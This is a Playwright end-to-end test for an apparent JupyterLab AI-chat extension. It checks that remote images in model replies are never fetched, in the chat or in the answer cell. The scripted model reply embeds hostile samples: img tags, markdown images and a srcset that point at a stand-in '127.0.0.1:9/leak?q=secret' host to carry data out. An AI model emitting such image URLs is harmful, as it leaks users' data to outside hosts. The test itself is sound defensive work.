/**
 * Model text loads nothing remote: an image in a reply would be fetched by the
 * browser as the reply streams, before any approval, carrying whatever the
 * model put in its URL.
 */
import { expect, test } from "@jupyterlab/galata";

import {
  ask,
  notebookCells,
  notebookWith,
  openChat,
  screenshot,
  script,
} from "./helpers";

test.use({ viewport: { width: 1440, height: 900 } });

// A 1x1 PNG: data: images stay.
const DOT =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

test("remote images in model text are never fetched, in the chat or the answer cell", async ({
  page,
  request,
}, testInfo) => {
  const fetched: string[] = [];
  page.on("request", (r) => {
    if (r.url().includes("leak")) {
      fetched.push(r.url());
    }
  });
  const hostile =
    'Here is the data. <img src="http://127.0.0.1:9/leak?q=secret-1"> ' +
    "![chart](http://127.0.0.1:9/leak?q=secret-2) " +
    '<picture><source srcset="//127.0.0.1:9/leak3 2x"><img src="x.png"></picture> ' +
    `![dot](${DOT})`;
  await script(request, [
    { text: `${hostile}\n<execute>\nprint(1)\n</execute>`, chunk: 20 },
    {
      text: `${hostile}\n<solution>done ![a](http://127.0.0.1:9/leak4)</solution>`,
    },
  ]);
  const name = await notebookWith(page, "images.ipynb", "q = 1");
  const sidebar = await openChat(page);
  await ask(sidebar, "show me");
  await expect(sidebar.getByTestId("codeact-final")).toHaveAttribute(
    "data-state",
    "solved",
    { timeout: 30000 },
  );
  await expect(sidebar.locator(".jp-codeact-remote-image").first()).toHaveText(
    "[remote image not loaded: 127.0.0.1:9]",
  );
  // The data: image is shown.
  await expect(
    sidebar.locator('img[src^="data:image/png"]').first(),
  ).toBeVisible();
  await screenshot(sidebar, testInfo, "sidebar-no-remote-images.png");

  // The answer cell in the notebook holds a link, not an image.
  await expect
    .poll(async () => (await notebookCells(page, name)).length)
    .toBeGreaterThanOrEqual(3);
  const answer = (await notebookCells(page, name)).find(
    (c) => c.cell_type === "markdown" && c.codeact,
  );
  expect(answer?.source).toContain("[a](http://127.0.0.1:9/leak4)");
  expect(answer?.source).not.toContain("![a]");
  await page.waitForTimeout(500); // anything the rendered cell would load
  expect(fetched).toEqual([]);
});
